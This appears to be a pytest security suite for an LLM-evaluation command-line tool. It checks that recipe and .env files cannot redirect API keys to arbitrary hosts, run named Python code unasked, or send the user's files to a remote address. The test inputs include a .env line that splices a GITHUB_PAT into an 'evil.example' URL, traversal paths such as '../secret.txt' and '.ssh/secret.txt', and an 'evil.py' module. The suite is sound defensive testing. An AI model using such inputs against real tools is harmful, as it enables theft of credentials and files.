"""Files of others on the command line: their addresses get no key and their code is not run until the user says so."""

from __future__ import annotations

import gc
import json
import os
from collections.abc import Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from jrh_mlflow.cli.main import group
from jrh_mlflow.errors import JrhWarning, RecipeError
from jrh_mlflow.models import trust
from jrh_mlflow.recipe import load_generation, load_recipe
from jrh_mlflow.sweeps.space import load_space
from jrh_mlflow.workflow import load_workflow
from tests.loopback import LoopbackServer

KEY = "sk-of-the-user-0123456789"


@pytest.fixture(autouse=True)
def _own_environment(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    before = dict(os.environ)
    os.environ["OPENAI_API_KEY"] = KEY
    for name in ("JRH_NO_DOTENV", "OPENAI_BASE_URL", "OPENAI_API_BASE", trust.VARIABLE):
        os.environ.pop(name, None)
    yield
    os.environ.clear()
    os.environ.update(before)


@pytest.fixture
def server() -> Iterator[LoopbackServer]:
    with LoopbackServer(record=True) as running:
        yield running


def jrh(*arguments: object) -> Result:
    trust.forget()  # as a process of its own
    return CliRunner().invoke(group, [str(argument) for argument in arguments])


def is_refused(done: Result) -> bool:
    return isinstance(done.exception, RecipeError) and done.exception.exit_code == 2


def write(name: str, text: str) -> Path:
    Path(name).write_text(text, encoding="utf-8")
    return Path(name)


@pytest.fixture
def small(store_uri: str) -> tuple[object, ...]:
    assert jrh("suite", "build", "-o", "small", "--n-tasks", 1, "--depth", 1).exit_code == 0
    return ("--suite", "small", "--tracking-uri", store_uri, "--experiment", "tests")


def test_a_key_does_not_go_where_only_a_recipe_says(server: LoopbackServer, small: tuple[object, ...]) -> None:
    recipe = write("recipe.yaml", f"judge: {{model: openai/gpt-4o-mini, api_base: '{server.url}'}}\n")
    assert is_refused(jrh("evaluate", recipe, *small))
    assert server.requests == []
    done = jrh("evaluate", recipe, *small, "--allow-key-to", f"127.0.0.1:{server.port}")
    assert done.exit_code == 0, (done.output, done.exception)
    # Remembered.
    assert jrh("evaluate", recipe, *small, "--fresh-after", "2020-01-01").exit_code == 0
    assert {KEY in request["headers"]["Authorization"] for request in server.requests} == {True}


def test_the_same_address_as_an_option_is_the_users_word(server: LoopbackServer, small: tuple[object, ...]) -> None:
    recipe = write("recipe.yaml", f"judge: {{model: openai/gpt-4o-mini, api_base: '{server.url}'}}\n")
    done = jrh("evaluate", recipe, "--api-base", server.url, *small)
    assert done.exit_code == 0, (done.output, done.exception)
    assert server.requests


def test_a_key_does_not_go_where_only_env_says(server: LoopbackServer, small: tuple[object, ...]) -> None:
    write(".env", f"OPENAI_BASE_URL={server.url}\nHTTP_PROXY=http://127.0.0.1:1\n")
    with pytest.warns(JrhWarning):
        assert is_refused(jrh("evaluate", "--model", "openai/x", *small))
    assert server.requests == []
    assert "HTTP_PROXY" not in os.environ
    os.environ.pop("OPENAI_BASE_URL")
    Path(".env").rename("mine.env")
    Path("mine.env").write_text(f"OPENAI_BASE_URL={server.url}\n", encoding="utf-8")
    done = jrh("--env-file", "mine.env", "evaluate", "--model", "openai/x", *small)
    assert done.exit_code == 0, (done.output, done.exception)
    assert server.requests


@pytest.mark.parametrize("kind", ["space", "pipeline", "generator", "validator", "second validator", "service"])
def test_no_file_of_any_kind_takes_a_key_to_its_address(kind: str, server: LoopbackServer, store_uri: str) -> None:
    model = f"{{model: openai/gpt-4o-mini, api_base: '{server.url}'}}"
    write("rows.csv", "instruction,response,label\nSay it.,It is said.,fail\nSay it.,It is well said.,pass\n")
    data = "dataset: rows.csv\nrubric: Is it right?\noutput: suite\n"
    service = f"url: '{server.url}', body: {{a: '{{first}}', b: '{{second}}'}}, answer: winner"
    assert jrh("suite", "build", "-o", "small", "--n-tasks", 4, "--depth", 1).exit_code == 0
    command, text = {
        "space": (("sweep", "file.yaml", "--suite", "small"), f"models: [{model}]\n"),
        "pipeline": (("evaluate", "file.yaml"), f"suite: small\njudges: [{model}]\ncompare: false\n"),
        "service": (
            ("evaluate", "file.yaml", "--suite", "small"),
            f"judge: {{{service}, headers: {{Authorization: 'Bearer ${{OPENAI_API_KEY}}'}}}}\n",
        ),
        "generator": (("generate", "file.yaml"), f"{data}tests: [semantic_paraphrase]\ngenerator: {model}\n"),
        "validator": (
            ("generate", "file.yaml"),
            f"{data}tests: [label_flip]\ngenerator: openai/x\nvalidator: {model}\n",
        ),
        "second validator": (
            ("generate", "file.yaml"),
            f"{data}tests: [label_flip]\ngenerator: openai/x\nvalidator: [openai/x, {model}]\n",
        ),
    }[kind]
    write("file.yaml", text)
    done = jrh(*command, "--tracking-uri", store_uri)
    assert is_refused(done), (done.output, done.exception)
    assert server.requests == []


def test_a_store_that_a_recipe_names_gets_no_login(server: LoopbackServer, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("MLFLOW_TRACKING_TOKEN", KEY)
    write("recipe.yaml", f"judge: scripted:Oracle\ntracking_uri: {server.url.removesuffix('/v1')}\n")
    assert is_refused(jrh("evaluate", "recipe.yaml"))
    assert server.requests == []


def test_a_journal_that_a_recipe_names_gets_no_prompts() -> None:
    write("recipe.yaml", "judge: openai/gpt-4o-mini\njournal: postgresql://db.example/x\n")
    assert is_refused(jrh("evaluate", "recipe.yaml"))


CODE = """
from pathlib import Path
Path("ran").touch()

def judge(presentation):
    return "tie"

def write(brief, temperature):
    return "It is said."

def shorten(transcript):
    return transcript

def of(choice):
    return judge
"""
DATA = "dataset: rows.csv\nrubric: Is it right?\noutput: suite\ntests: [padding]\n"
FILES = {
    "judge": ("evaluate", "judge: evil.py:judge\nsuite: small\n"),
    "judge of a module": ("evaluate", "judge: evil:judge\nsuite: small\n"),
    "callable": ("evaluate", "judge: {callable: evil.py:judge}\nsuite: small\n"),
    "pipeline": ("evaluate", "judges: [evil.py:judge]\nsuite: small\ncompare: false\n"),
    "generator": ("generate", f"{DATA}generator: {{callable: evil.py:write}}\n"),
    "validator": ("generate", f"{DATA}validator: evil.py:judge\n"),
    "second validator": ("generate", f"{DATA}validator: [openai/x, evil.py:judge]\n"),
    "planner": ("generate", f"{DATA}planner: {{callable: evil.py:write}}\n"),
    "preprocessor": ("generate", f"{DATA}preprocess: [evil.py:shorten]\n"),
    "space": ("sweep", "judge: evil.py:of\nchoices: {x: [1, 2]}\n"),
    "scorer of its own store": ("evaluate", "judge: scorers:/x\ntracking_uri: sqlite:///theirs.db\nsuite: small\n"),
}


@pytest.mark.parametrize("case", FILES)
@pytest.mark.parametrize("flags", [(), ("--dry-run",), ("--dry-run", "--allow-code"), ("--allow-code", "--dry-run")])
def test_code_that_a_file_names_is_not_run(case: str, flags: tuple[str, ...]) -> None:
    write("evil.py", CODE)
    write("rows.csv", "instruction,response,label\nSay it.,It is said.,fail\nSay it.,It is well said.,pass\n")
    command, text = FILES[case]
    write("file.yaml", text)
    done = jrh(command, "file.yaml", *flags)
    assert is_refused(done), (done.output, done.exception)
    assert not Path("ran").exists()
    assert not Path("theirs.db").exists()


def test_with_leave_it_is_run(small: tuple[object, ...]) -> None:
    write("evil.py", CODE)
    recipe = write("recipe.yaml", "judge: evil.py:judge\n")
    done = jrh("evaluate", recipe, *small, "--allow-code", "--json")
    assert done.exit_code == 0, (done.output, done.exception)
    assert Path("ran").exists()
    assert json.loads(done.stdout)


def test_what_is_typed_needs_no_leave(small: tuple[object, ...]) -> None:
    write("evil.py", CODE)
    assert jrh("evaluate", "--judge", "evil.py:judge", *small).exit_code == 0


def test_python_runs_the_code_of_the_files_it_loads() -> None:
    write("evil.py", CODE)
    write("rows.csv", "instruction,response,label\nSay it.,It is said.,fail\nSay it.,It is well said.,pass\n")
    assert load_recipe(write("recipe.yaml", "judge: evil.py:judge\n")).judge
    assert load_generation(write("generation.yaml", FILES["generator"][1]))["generator"]
    assert load_space(write("space.yaml", FILES["space"][1])).judge
    assert load_workflow(write("pipeline.yaml", FILES["pipeline"][1])).judges


def test_python_allows_a_host_by_an_argument(server: LoopbackServer) -> None:
    text = f"judge: {{model: openai/gpt-4o-mini, api_base: '{server.url}'}}\n"
    with pytest.raises(RecipeError):
        load_recipe(write("recipe.yaml", text)).judge.lacks()
    trust.forget()
    assert load_recipe(Path("recipe.yaml"), allow_key_to="127.0.0.1").judge.lacks() is None


def test_a_command_that_ends_while_it_is_parsed_leaves_python_as_it_was() -> None:
    write("evil.py", CODE)
    assert jrh("evaluate", "--no-such-option").exit_code == 2
    gc.collect()
    assert load_recipe(write("recipe.yaml", "judge: evil.py:judge\n")).judge


@pytest.mark.parametrize("where", ["judge", "criteria", "generation", "space"])
def test_no_file_sends_another_file_of_the_users_to_its_address(
    where: str, server: LoopbackServer, store_uri: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    write("secret.txt", "kept at home")
    Path("cloned").mkdir()
    write("rows.csv", "instruction,response,label\nSay it.,It is said.,fail\nSay it.,It is well said.,pass\n")
    model = f"model: hosted_vllm/x, api_base: '{server.url}'"
    names = (str(Path("secret.txt").absolute()), "../secret.txt", ".ssh/secret.txt")
    monkeypatch.chdir("cloned")
    Path(".ssh").mkdir()
    write(".ssh/secret.txt", "kept at home")
    for name in names:
        command, text = {
            "judge": ("evaluate", f"judge: {{{model}, rubric: '@{name}'}}\n"),
            "criteria": ("shift", f"judge: {{{model}}}\ncriteria: [strict, {{file: '{name}'}}]\n"),
            "generation": ("generate", f"dataset: ../rows.csv\nrubric: {{file: '{name}'}}\ngenerator: {{{model}}}\n"),
            "space": ("sweep", f"models: [{{{model}}}]\nrubrics: ['@{name}']\n"),
        }[where]
        write("file.yaml", text)
        assert is_refused(jrh(command, "file.yaml", "--tracking-uri", store_uri)), name
    assert server.requests == []


def test_a_text_file_with_a_key_in_it_is_not_sent(server: LoopbackServer, store_uri: str) -> None:
    write("notes.txt", f"OPENAI_API_KEY={KEY}\n")
    write("recipe.yaml", f"judge: {{model: hosted_vllm/x, api_base: '{server.url}', rubric: '@notes.txt'}}\n")
    assert is_refused(jrh("evaluate", "recipe.yaml", "--tracking-uri", store_uri))
    assert server.requests == []


def test_env_repeats_nothing_of_the_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("GITHUB_PAT", "ghp-0123456789")
    monkeypatch.delenv("OLLAMA_API_BASE", raising=False)
    text = "HOST_API_KEY=http://evil.example\nOLLAMA_API_BASE=${HOST_API_KEY}/${GITHUB_PAT}\n"
    write(".env", text)
    assert jrh("suite", "tests").exit_code == 0
    assert os.environ.pop("OLLAMA_API_BASE") == "http://evil.example/"
    os.environ.pop("HOST_API_KEY")
    # Named, it is the user's own.
    assert jrh("--env-file", ".env", "suite", "tests").exit_code == 0
    assert os.environ["OLLAMA_API_BASE"] == "http://evil.example/ghp-0123456789"
